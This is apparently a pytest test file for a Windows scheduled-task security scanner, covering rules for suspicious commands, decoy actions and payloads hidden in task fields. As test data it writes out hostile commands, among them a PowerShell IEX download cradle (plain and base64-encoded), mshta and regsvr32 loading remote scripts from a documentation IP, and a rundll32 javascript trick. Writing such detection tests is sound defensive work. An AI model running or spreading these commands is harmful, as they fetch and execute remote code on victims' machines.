"""What a task starts: commands that deserve a look, by whom they run, and their harmless neighbours."""

from __future__ import annotations

import base64

import pytest

from tests.rules.made import STOCK, Machine, findings, one, registry, stated, xml
from tests.rules.planted import PATH, REF, as_user, change, executes, planted
from triptych.model.finding import Confidence, Severity

MSHTA = ("mshta.exe", "http://203.0.113.41/a.hta")
PUBLIC = "C:\\Users\\Public\\Libraries\\update.exe"


def encoded(script: str) -> str:
    return f"-nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"


SUSPICIOUS = [
    ("powershell.exe", encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.41/a')")),
    MSHTA,
    ("rundll32.exe", 'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()'),
    ("\\\\203.0.113.41\\share\\update.exe", ""),
    ("\\\\files.example.net@SSL@443\\DavWWWRoot\\update.exe", ""),
    ("regsvr32.exe", "/s /n /u /i:http://203.0.113.41/a.sct scrobj.dll"),
    (PUBLIC, ""),
    ("cmd.exe", "/c C:\\ProgramData\\x\\u.bat"),
    ("wscript.exe", "//B C:\\Users\\Public\\a.vbs"),
    ("C:\\Windows \\System32\\winsat.exe", ""),
    ("C:\\Windows\\Tasks\\a.exe", ""),
]


@pytest.mark.parametrize(("command", "arguments"), SUSPICIOUS)
def test_suspicious_as_system_is_high_and_cites_the_command(command: str, arguments: str) -> None:
    finding = one(planted(PATH, command, arguments), "command-suspicious")
    assert finding.severity is Severity.HIGH
    assert finding.task == PATH
    assert finding.refs[0] == REF
    assert command in finding.why
    assert "as SYSTEM" in finding.why


@pytest.mark.parametrize(("command", "arguments"), [pair for pair in SUSPICIOUS if "Public" not in pair[0] + pair[1]])
def test_as_a_plain_user_it_is_not_above_medium(command: str, arguments: str) -> None:
    finding = one(as_user(planted(PATH, command, arguments)), "command-suspicious")
    assert finding.severity in (Severity.MEDIUM, Severity.LOW)


def test_highest_rights_of_a_user_are_medium_also_where_only_the_place_is_odd() -> None:
    for command, arguments in (MSHTA, (PUBLIC, "")):
        finding = one(as_user(planted(PATH, command, arguments), level="HighestAvailable"), "command-suspicious")
        assert finding.severity is Severity.MEDIUM
        assert "highest rights" in finding.why


def test_administrators_count_as_the_system() -> None:
    assert one(as_user(planted(PATH, *MSHTA), sid="S-1-5-32-544"), "command-suspicious").severity is Severity.HIGH


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("C:\\Program Files\\Made\\made.exe", "/quiet"),
        ("powershell.exe", '-NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Made\\job.ps1"'),
        ("powershell.exe", "-WindowStyle Hidden -File C:\\Windows\\job.ps1"),
        ("rundll32.exe", '"C:\\Program Files\\HP\\hpz.dll",Run'),
        ("reg.exe", "query HKLM\\SOFTWARE"),
        ("schtasks.exe", "/run /tn \\Lenovo\\Update"),
        ("%windir%\\system32\\robocopy.exe", "D:\\Data E:\\Backup /MIR"),
        ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2301.6-0\\MpCmdRun.exe", "Scan"),
    ],
)
def test_everyday_commands_are_nothing(command: str, arguments: str) -> None:
    assert findings(planted(PATH, command, arguments), "command-suspicious") == []


def test_encoded_and_harmless_is_low() -> None:
    finding = one(planted(PATH, "powershell.exe", encoded("Get-Date; Restart-Service Spooler")), "command-suspicious")
    assert (finding.severity, finding.confidence) == (Severity.LOW, Confidence.POSSIBLE)
    assert "harmless" in finding.why


def test_a_program_of_the_very_user_who_may_write_there_is_low() -> None:
    own = as_user(planted(PATH, "C:\\Users\\ada\\AppData\\Local\\Made\\update.exe", ""))
    assert one(own, "command-suspicious").severity is Severity.LOW


def test_a_file_that_nothing_registers_is_low() -> None:
    finding = one(planted(PATH, *MSHTA, registered=False), "command-suspicious")
    assert finding.severity is Severity.LOW
    assert "Nothing registers" in finding.why


def test_a_vendors_own_command_is_nothing_under_its_name_and_something_under_another() -> None:
    command = "C:\\Users\\ada\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"
    vendors = f"\\OneDrive Standalone Update Task-{'S-1-5-21-1-2-3-1001'}"
    assert findings(planted(vendors, command, "/reporting"), "command-suspicious") == []
    assert one(planted(vendors, PUBLIC, ""), "command-suspicious").severity is Severity.HIGH


def test_a_shipped_action_is_nothing_although_another_name_would_be() -> None:
    record = registry(STOCK, 901, "%windir%\\system32\\defrag.exe", "-c -h -o -$")
    machine = Machine()
    machine.registry[STOCK], machine.xml[STOCK] = record, xml(record)
    assert findings(machine, "command-suspicious") == []


def test_each_suspicious_action_is_a_finding_of_its_own() -> None:
    machine = change(planted(), PATH, actions=(executes(*MSHTA), executes(PUBLIC)))
    found = findings(machine, "command-suspicious")
    assert sorted(finding.summary.split(": ")[1].split(" ")[1] for finding in found) == ["1", "2"]
    assert len({finding.key for finding in found}) == 2


def test_what_the_registry_starts_counts_and_not_the_stale_file() -> None:
    machine = planted().change_xml(PATH, actions=(executes(*MSHTA),))
    assert findings(machine, "command-suspicious") == []
    assert one(planted().change(PATH, actions=(executes(*MSHTA),)), "command-suspicious").task == PATH


def test_a_harmless_action_before_a_suspicious_one_is_a_decoy() -> None:
    machine = change(planted(), PATH, actions=(executes("C:\\Program Files\\Made\\made.exe"), executes(*MSHTA)))
    finding = one(machine, "decoy-action")
    assert finding.severity is Severity.MEDIUM
    assert "number 2" in finding.why
    assert "action 2" in finding.summary


@pytest.mark.parametrize(
    "actions",
    [
        (executes(*MSHTA),),
        (executes(*MSHTA), executes("C:\\Program Files\\Made\\made.exe")),
        (executes("C:\\Program Files\\Made\\made.exe"), executes("C:\\Program Files\\Made\\second.exe")),
        (executes(PUBLIC), executes(*MSHTA)),
    ],
)
def test_one_action_or_a_suspicious_first_one_is_no_decoy(actions: tuple[object, ...]) -> None:
    assert findings(change(planted(), PATH, actions=actions), "decoy-action") == []


BLOB = base64.b64encode(bytes(range(256)) * 2).decode()
FETCH = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.41/a')\""


@pytest.mark.parametrize("field", ["author", "description", "documentation", "source", "version", "data"])
@pytest.mark.parametrize("text", [BLOB, FETCH, "All is well. " * 100])
def test_code_and_oversized_text_in_a_field(field: str, text: str) -> None:
    finding = one(change(planted(), PATH, "registration", **{field: stated(text, REF)}), "text-payload")
    assert finding.severity is Severity.MEDIUM
    assert finding.summary.startswith(f"{PATH}: {field.capitalize()} ")
    assert finding.refs == (REF,)


@pytest.mark.parametrize(
    "text",
    [
        "Keeps your software up to date. If this task is disabled, it will not be kept up to date.",
        "A" * 200,
        "\\Software\\Made\\" + "0123456789" * 20,
        "$(@%SystemRoot%\\system32\\sr.dll,-1500)",
        "Downloads updates of the program",
    ],
)
def test_ordinary_descriptions_are_nothing(text: str) -> None:
    assert findings(change(planted(), PATH, "registration", description=stated(text, REF)), "text-payload") == []


def test_a_uri_that_is_the_tasks_own_name_holds_no_code() -> None:
    path = "\\Made\\Invoke-WebRequest nightly"
    machine = change(planted(path), path, "registration", uri=stated(path.lower(), REF))
    assert findings(machine, "text-payload") == []
    assert one(change(machine, path, "registration", uri=stated(FETCH, REF)), "text-payload").summary.startswith(f"{path}: Uri ")


def test_a_long_description_of_a_stock_task_is_nothing_up_to_a_point() -> None:
    text = "All is well. " * 100
    assert findings(change(Machine(), STOCK, "registration", description=stated(text, REF)), "text-payload") == []
    assert one(change(Machine(), STOCK, "registration", description=stated(text * 5, REF)), "text-payload").task == STOCK


def test_a_payload_that_the_file_alone_states_is_found() -> None:
    machine = planted().change_xml(PATH, "registration", description=stated(FETCH, REF))
    assert one(machine, "text-payload").task == PATH
